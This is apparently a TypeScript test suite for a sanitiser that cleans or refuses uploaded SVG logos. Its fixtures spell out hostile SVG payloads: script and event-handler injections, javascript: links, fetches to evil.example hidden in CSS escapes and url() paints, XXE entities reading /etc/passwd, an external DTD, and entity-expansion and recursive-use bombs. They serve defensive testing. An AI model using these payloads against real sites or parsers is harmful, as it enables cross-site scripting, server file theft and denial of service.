import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { cleanDrawing } from './clean-drawing.ts';
import { convertUpload } from './convert-upload.ts';
import { cleanAside, convertDrawing } from './drawing.ts';
import { upload } from './testing.ts';

const { DOMParser } = new JSDOM().window;

const placed = (svg: string | Buffer) =>
  convertUpload(upload(svg), { format: 'svg', ratio: null }, 'company/logo', undefined);

/** As `placed`, but cleaned in this thread: to begin one takes several times as long as all the rest. */
const placedHere = (svg: string) => convertDrawing(Buffer.from(svg), cleanDrawing);

const namespaces =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="http://www.w3.org/1999/xhtml"';
const shape = '<path d="M2 2h60v60z" fill="#3a2fb8"/>';
const drawing = (within: string, attributes = '') =>
  `<svg ${namespaces} viewBox="0 0 64 64" ${attributes}>${shape}${within}</svg>`;

/** What of a drawing could run, fetch, or be read as something else. */
function harmIn(svg: string): string[] {
  const parsed = new DOMParser().parseFromString(svg, 'image/svg+xml');
  const elements = [...parsed.querySelectorAll('*')];
  const shown =
    /^(svg|g|defs|symbol|switch|clipPath|mask|marker|pattern|use|path|rect|circle|ellipse|line|poly(line|gon)|(linear|radial)Gradient|stop)$/;
  return [
    ...elements.map(({ tagName }) => tagName).filter((name) => !shown.test(name)),
    ...elements
      .filter(({ namespaceURI }) => namespaceURI !== 'http://www.w3.org/2000/svg')
      .map(({ namespaceURI }) => String(namespaceURI)),
    ...elements
      .flatMap((element) => [...element.attributes])
      .filter(
        ({ name, value }) =>
          /^on|style|base$/i.test(name) ||
          (/href$/.test(name) && !value.startsWith('#')) ||
          (name !== 'xmlns' && /:\/\/|script:|data:|\\|@|\/\*/i.test(value)) ||
          /url\((?!\s*["']?#)/i.test(value),
      )
      .map(({ name, value }) => `${name}="${value}"`),
    ...(/<[!?]|&(?!(?:lt|gt|amp|quot|apos);)/.test(svg) ? ['a declaration or an entity'] : []),
  ];
}

describe('a logo', () => {
  test('that the site has looks as it did', async () => {
    const original = readFileSync(
      new URL('../../../content/company/logo/src.svg', import.meta.url),
    );
    const picture = await placed(original);
    if ('refusal' in picture) throw new Error(picture.refusal);
    expect(picture).toMatchObject({ name: 'src.svg', width: 64, height: 64 });
    const look = (svg: Buffer) => sharp(svg, { density: 300 }).raw().toBuffer();
    expect(await look(picture.file)).toEqual(await look(original));
  });

  test('drawn by Illustrator keeps its styles, gradients and parts used twice', async () => {
    const picture = await placed(`\uFEFF<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" ${namespaces} x="0px" y="0px" width="200px" height="100px" viewBox="0 0 200 100" style="enable-background:new 0 0 200 100;" xml:space="preserve">
<style type="text/css"><![CDATA[ .st0{fill:url(#SVGID_1_);} .st1{fill:none;stroke:#9C4F00;stroke-width:4;} ]]></style>
<title>Our logo</title>
<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="0" x2="200"><stop offset="0" style="stop-color:#3A2FB8"/><stop offset="1" stop-color="#FFB938"/></linearGradient>
<rect class="st0" width="120" height="100"/><circle id="dot" class="st1" cx="160" cy="30" r="20"/><use xlink:href="#dot" transform="translate(0 40)"/>
</svg>`);
    if ('refusal' in picture) throw new Error(picture.refusal);
    const svg = picture.file.toString();
    expect(picture).toMatchObject({ width: 200, height: 100 });
    expect(svg).toContain('fill="url(#SVGID_1_)"');
    expect(svg).toContain('stroke="#9C4F00"');
    expect(svg).toContain('href="#dot"');
    expect(harmIn(svg)).toEqual([]);
  });

  test.each([
    ['width="100%" height="100%" viewBox="0 0 64 32"', 64, 32],
    ['width="30mm" height="15mm" viewBox="0 0 60 30"', 60, 30],
    ['width="64" height="32"', 64, 32],
    ['viewBox="0 0 8000 4000"', 1000, 500],
  ])('of %s has a size that pages can reserve', async (size, width, height) => {
    const svg = `<svg ${namespaces} ${size}><rect width="30" height="20" fill="red"/><rect width="3000" height="3" fill="blue"/></svg>`;
    expect(await placed(svg)).toMatchObject({ width, height });
  });
});

/** Harmless in the end: what ran or fetched is gone, and the logo looks as before. */
const cleaned = {
  'a script': '<script>alert(1)</script>',
  'a script elsewhere':
    '<script href="https://evil.example/a.js" xlink:href="//evil.example/a.js"/>',
  'a script of another namespace': '<x:script>alert(1)</x:script>',
  'a script in a group': '<g><defs><script type="module"><![CDATA[alert(1)]]></script></defs></g>',
  'a handler': '<g onclick="alert(1)" onload="alert(2)" onfocusin="alert(3)"></g>',
  'a handler in capitals': '<g ONLOAD="alert(1)"></g>',
  'a page':
    '<foreignObject width="9" height="9"><x:body><x:iframe src="//evil.example"/></x:body></foreignObject>',
  'a handler that arrives later': '<set attributeName="onmouseover" to="alert(1)"/>',
  'a link that arrives later':
    '<a><animate attributeName="href" values="javascript:alert(1)"/></a><animate attributeName="xlink:href" to="//evil.example"/>',
  'a link of script': '<a href="javascript:alert(1)" xlink:href="java&#10;script:alert(1)"/>',
  'a part used of another file': '<use href="https://evil.example/a.svg#a"/>',
  'a part used of data': '<use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#a"/>',
  'a style sheet elsewhere':
    '<style>@import url("https://evil.example/a.css"); @font-face { font-family: a; src: url(//evil.example) }</style>',
  'a style sheet by instruction': '<?xml-stylesheet href="https://evil.example/a.css"?>',
  'a rule that fetches':
    '<style>g { clip-path: url(https://evil.example/#a); cursor: url(//evil.example) }</style><g/>',
  'a paint that fetches':
    '<g fill="url(https://evil.example/#a)" mask="url(&quot;//evil.example#a&quot;)"/>',
  'a paint that fetches by escapes':
    '<g fill="u\\72l(https://evil.example/a)" style="fill:\\75rl(//evil.example)"/>',
  'a paint that fetches behind a comment':
    '<g fill="url(#a)/**/url(//evil.example)" style="mask:url(/**///evil.example)"/>',
  'a paint that fetches behind its own':
    '<g style="mask:url(#a),url(//evil.example);mask-image:image-set(\'//evil.example\' 1x)"/>',
  'another base': '<g xml:base="https://evil.example/"><use href="#a"/></g>',
  'notes of its editor': '<metadata><x:p>secret</x:p></metadata><desc>secret</desc><!-- secret -->',
  'a listener': '<handler xmlns="http://www.w3.org/2001/xml-events" type="load">alert(1)</handler>',
};

/** Refused: the drawing would not be what it was, or can't be read without danger. */
const refused = {
  'a picture elsewhere': drawing(
    '<image href="https://evil.example/a.png" width="64" height="64"/>',
  ),
  'a file of the server': drawing('<image href="file:///etc/passwd" width="64" height="64"/>'),
  'a picture of data': drawing(
    '<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="9" height="9"/>',
  ),
  'a picture in an effect': drawing(
    '<filter id="a"><feImage href="https://evil.example/a.png"/></filter>',
  ).replaceAll('filter', 'g'),
  'another file within': drawing(
    '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
  ),
  'letters of a font': drawing('<text x="4" y="50" font-size="40">Nokshi</text>'),
  'an effect': drawing(
    '<filter id="a"><feGaussianBlur stdDeviation="9"/></filter><circle cx="20" cy="44" r="14" filter="url(#a)"/>',
  ),
  'a page and nothing else': `<svg ${namespaces} viewBox="0 0 9 9"><foreignObject width="9" height="9"><x:p>a</x:p></foreignObject></svg>`,
  'nothing at all': `<svg ${namespaces} viewBox="0 0 9 9"/>`,
  'no size': `<svg ${namespaces}>${shape}</svg>`,
  'an entity of a file': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>${drawing('<text>&a;</text>')}`,
  'an entity that unfolds': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">]>${drawing('<text>&c;</text>')}`,
  'an entity that is nowhere': drawing('<g id="&nbsp;"/>'),
  'an entity of parameters': `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>${drawing('')}`,
  'parts that unfold': drawing(
    `${Array.from(
      { length: 12 },
      (_, depth) => `<g id="a${depth + 1}">${`<use href="#a${depth}"/>`.repeat(10)}</g>`,
    ).join('')}<g id="a0"><path d="M0 0h9v9z"/></g>`,
  ),
  'a part that uses itself': drawing('<g id="a"><use href="#a"/></g>'),
};

describe('a hostile drawing', () => {
  test.each(Object.entries(cleaned))('loses %s', async (_, within) => {
    const picture = await placedHere(drawing(within));
    if ('refusal' in picture) throw new Error(`was refused as ${picture.refusal}`);
    const svg = picture.file.toString();
    expect(harmIn(svg)).toEqual([]);
    expect(svg).not.toMatch(/evil|alert|secret/);
    expect(svg).toContain('M2 2h60v60z');
  });

  test.each([
    'onload="alert(1)"',
    'style="background:url(https://evil.example)"',
    'xml:base="https://evil.example/"',
  ])('loses what its first element has: %s', async (attribute) => {
    const picture = await placedHere(drawing('', attribute));
    expect('file' in picture && harmIn(picture.file.toString())).toEqual([]);
  });

  test.each(Object.entries(refused))('is refused with %s', async (_, svg) => {
    expect(await placedHere(svg)).toEqual({ refusal: 'unsafe-svg', values: {} });
  });

  test('is refused with groups without end', async () => {
    const endless = drawing('<g>'.repeat(20_000) + '</g>'.repeat(20_000));
    expect(await placed(endless)).toMatchObject({ refusal: 'unsafe-svg' });
  });

  test('is refused when its styles would keep the machine busy for years', async () => {
    const style = `<style>defs ${'g '.repeat(14)}path{fill:red}</style>`;
    const deep = `${'<g>'.repeat(60)}<path d="M0 0h1"/>${'</g>'.repeat(60)}`;
    const busy = Buffer.from(drawing(style + deep));
    expect(await convertDrawing(busy, cleanAside(2))).toMatchObject({ refusal: 'unsafe-svg' });
  });

  test.each([
    ['cut off', drawing('').slice(0, -20)],
    ['of no known letters', Buffer.from(drawing('<g id="\xff\xfe"/>'), 'latin1')],
  ])('%s is broken', async (_, svg) => {
    expect(await placed(svg)).toEqual({ refusal: 'broken', values: {} });
  });

  test('larger than logos are is refused', async () => {
    const long = drawing(`<path d="${'M0 0h1'.repeat(60_000)}"/>`);
    expect(await placed(long)).toEqual({ refusal: 'large-svg', values: { kilobytes: 300 } });
  });
});

describe('any drawing', () => {
  const names = [
    'g',
    'path',
    'use',
    'script',
    'style',
    'a',
    'image',
    'set',
    'svg',
    'x:script',
    'foreignObject',
    'linearGradient',
  ];
  const keys = [
    'fill',
    'style',
    'href',
    'xlink:href',
    'onload',
    'mask',
    'id',
    'd',
    'xmlns',
    'xml:base',
    'clip-path',
    'class',
  ];
  const pieces = [
    'url(',
    'u\\72l(',
    '#a',
    '//evil.example',
    ')',
    '"',
    "'",
    ' ',
    ';',
    'fill:',
    'mask:',
    '/*',
    '*/',
    'data:,',
    'javascript:',
    '<script>',
    '@import',
    'rgb(',
    ']]>',
    '-->',
    '&',
  ];
  const text = fc.array(fc.constantFrom(...pieces), { maxLength: 8 }).map((all) => all.join(''));
  const escaped = text.map((value) =>
    value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  );
  const { tree } = fc.letrec<{ tree: string }>((tie) => ({
    tree: fc
      .tuple(
        fc.constantFrom(...names),
        fc.dictionary(fc.constantFrom(...keys), escaped, { maxKeys: 4 }),
        fc.oneof(
          { depthSize: 'small' },
          escaped,
          fc.array(tie('tree'), { maxLength: 3 }).map((all) => all.join('')),
        ),
      )
      .map(([name, attributes, within]) => {
        const written = Object.entries(attributes).map(([key, value]) => ` ${key}="${value}"`);
        return `<${name}${written.join('')}>${within}</${name}>`;
      }),
  }));

  test('comes out harmless or not at all', () => {
    fc.assert(
      fc.property(fc.oneof(tree, text), (within) => {
        const clean = cleanDrawing(drawing(within));
        if (typeof clean === 'string') return ['broken', 'unsafe-svg'].includes(clean);
        expect(harmIn(clean.svg)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });
});
